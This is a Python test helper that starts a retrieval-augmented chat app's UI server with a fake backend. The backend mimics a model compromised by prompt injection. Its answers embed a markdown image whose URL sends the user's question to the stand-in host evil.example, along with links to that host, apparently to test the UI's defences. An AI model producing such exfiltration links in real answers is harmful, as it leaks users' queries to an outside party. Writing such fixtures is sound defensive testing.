"""Start the real server for the UI tests, with one extra backend FOR TESTS ONLY:
``injected`` answers like a model that fell for a prompt injection (a markdown image whose URL
carries the question, and a link to an outside host) inside an otherwise supported sentence.

Usage: python tests/ui/ui_server.py PORT  (settings from the RAG_ environment variables)
"""

from __future__ import annotations

import re
import sys
from urllib.parse import quote

from rag import register
from rag.fakes import FakeCitingChatModel
from rag.llms import ChatModelBackend
from rag.text import sentences

EVIL = "evil.example"


class InjectedChatModel(FakeCitingChatModel):
    def _answer(self, messages) -> str:
        prompt = str(messages[-1].content)
        source = re.search(r'<source id="1"[^>]*>\n(.*?)\n</source>', prompt, re.DOTALL)
        question = prompt.rsplit("Question:", 1)[-1].strip()
        first = sentences(source.group(1))[0].rstrip(".") if source else "Nothing"
        return (f"{first} ![pixel](http://{EVIL}/leak.png?q={quote(question)}) [1]. "
                f"See [the details](http://{EVIL}/more) and http://{EVIL}/raw for more [1].")


if __name__ == "__main__":
    register("injected", lambda settings: ChatModelBackend("injected", InjectedChatModel()))
    from ui.server import serve

    serve(port=int(sys.argv[1]))
